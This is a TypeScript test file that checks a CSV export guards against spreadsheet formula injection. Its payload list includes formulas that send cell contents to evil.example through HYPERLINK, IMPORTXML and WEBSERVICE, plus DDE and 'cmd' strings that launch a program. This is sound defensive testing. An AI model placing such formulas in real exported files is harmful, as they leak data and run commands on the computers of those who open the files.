import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { harmlessCell, plainCell } from "#shared/links/imports/imports.ts";
import { csvLine } from "./write-csv.ts";

const BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－"];
const FORMULAS = [
	"1+1",
	'HYPERLINK("https://evil.example/?"&A1,"x")',
	"cmd|' /C calc'!A0",
	'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
	"SUM(1;2)",
	'DDE("cmd";"/C calc";"x")',
	'WEBSERVICE("https://evil.example")',
	"=1",
	"2,3",
	'"quoted" "twice',
];
const PAYLOADS = BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => `${beginning}${formula}`));

test("a hundred formulas come out as texts, in their own cell, and come in again as they were (P189)", () => {
	expect(PAYLOADS).toHaveLength(100);
	const file = PAYLOADS.map((payload) => csvLine([payload, 7, `'${payload}`, "plain"])).join("");
	const rows: string[][] = parse(file);
	expect(rows).toHaveLength(100);
	for (const [n, row] of rows.entries()) {
		expect(row).toHaveLength(4);
		for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
		expect(row.map(plainCell)).toEqual([PAYLOADS[n], "7", `'${PAYLOADS[n]}`, "plain"]);
	}
});

test.each(["plain", "", "'quoted'", "a=1", "ünï", "1-1", "'", " =1"])("%j stays as it is", (text) => {
	expect(harmlessCell(text)).toBe(text);
	expect(plainCell(text)).toBe(text);
});
